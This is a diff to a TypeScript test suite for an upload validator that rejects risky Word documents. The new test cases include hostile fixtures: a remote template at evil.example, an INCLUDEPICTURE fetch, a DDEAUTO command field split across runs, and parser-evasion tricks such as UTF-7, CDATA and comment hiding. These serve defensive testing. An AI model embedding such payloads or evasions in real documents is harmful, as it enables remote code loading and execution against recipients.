@@ -95,6 +95,12 @@ describe('what cannot be opened whole is refused', () => {
     expect(await codeOf(await testDocx({ 'word/vbaProject.bin': 'x' }))).toBe('UPLOADS.MACROS');
     const types = contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml');
     expect(await codeOf(await testDocx({ '[Content_Types].xml': types }))).toBe('UPLOADS.MACROS');
+    const spelled = types.replace('macroE', 'macro&#69;');
+    expect(await codeOf(await testDocx({ '[Content_Types].xml': spelled }))).toBe('UPLOADS.MACROS');
+    const renamed = relationships(
+      `Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a"`,
+    );
+    expect(await codeOf(await testDocx({ 'word/_rels/document.xml.rels': renamed }))).toBe('UPLOADS.MACROS');
   });
 
   test('a Word document that is a bomb, names entities, or leads out of its archive', async () => {
@@ -103,6 +109,7 @@ describe('what cannot be opened whole is refused', () => {
     const entities = `<!DOCTYPE a [<!ENTITY b "bb">]>${wordDocument('')}`;
     expect(await codeOf(await testDocx({ 'word/document.xml': entities }))).toBe('UPLOADS.DAMAGED');
     expect(await codeOf(await testDocx({ '../a': 'a' }))).toBe('UPLOADS.DAMAGED');
+    expect(await codeOf(await testDocx({ 'Word/Document.xml': 'a' }))).toBe('UPLOADS.DAMAGED');
   });
 
   const relationships = (...attributes: readonly string[]) =>
@@ -113,6 +120,14 @@ describe('what cannot be opened whole is refused', () => {
     `Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"`;
   const template = `${typed('attachedTemplate')} Target="http://evil.example/t.dotm" TargetMode="External"`;
   const [own, ofSettings] = ['word/_rels/document.xml.rels', 'word/_rels/settings.xml.rels'];
+
+  const hidden = (before: string) =>
+    relationships(template).replace('<Relationship ', `${before}<Relationship `);
+  const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
+  const fieldOf = (...pieces: readonly string[]) =>
+    wordDocument(
+      `${begin}${pieces.map((one) => `<w:r><w:instrText>${one}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
+    );
 
   test.each<[string, Record<string, string | Uint8Array>]>([
     ['a template', { [own]: relationships(template) }],
@@ -132,6 +147,22 @@ describe('what cannot be opened whole is refused', () => {
     ['another name of its namespace', { [own]: relationships(template).replaceAll('<Rel', '<a-b:Rel') }],
     ['letters of two bytes', { [own]: Buffer.from(relationships(template), 'utf16le') }],
     ['a document type', { [own]: `<!DOCTYPE a>${relationships()}` }],
+    ['a comment with a mark of quotation', { [own]: hidden('<!-- <Relationship a=" -->') }],
+    ['characters with one', { [own]: hidden("<![CDATA[<Relationship a=']]>") }],
+    ['an instruction with one', { [own]: hidden('<?a <Relationship a=" ?>') }],
+    ['another code', { [own]: '<?xml version="1.0" encoding="utf-7"?>+ADw-Relationships/>' }],
+    ['letters of four bytes', { [own]: Buffer.from(Array.from(relationships(template)).join('\0\0\0')) }],
+    [
+      'a page taken in',
+      { [own]: relationships(`${typed('aFChunk')} Target="a.html"`), 'word/a.html': '<img>' },
+    ],
+    ['a field', { 'word/document.xml': fieldOf('includepicture "http://evil.example/a.png" \\d') }],
+    ['a field in pieces', { 'word/footer1.xml': fieldOf('DD', 'E', 'AUTO cmd') }],
+    [
+      'a field in one piece',
+      { 'word/document.xml': wordDocument("<w:fldSimple w:a='>' w:instr=' LINK a'/>") },
+    ],
+    ['a field that another one names', { 'word/document.xml': wordDocument(`${begin}${begin}`) }],
   ])('a Word document that loads %s from elsewhere', async (_, parts) => {
     expect(await codeOf(await testDocx(parts))).toBe('UPLOADS.LOADS_FROM_ELSEWHERE');
   });
@@ -140,6 +171,8 @@ describe('what cannot be opened whole is refused', () => {
     const link = `${typed('hyperlink')} Target="https://example.org/" TargetMode="External"`;
     const picture = `${typed('image')} Target="media/a.png" TargetMode="Internal"`;
     expect(await codeOf(await testDocx({ [own]: relationships(link, picture) }))).toBe('is docx');
+    for (const field of ['HYPERLINK "https://example.org/link"', ' PAGE ', 'INCLUDEPICTURE "cid:a.png"'])
+      expect(await codeOf(await testDocx({ 'word/document.xml': fieldOf(field) }))).toBe('is docx');
   });
 
   test('a Word document with a password', async () => {
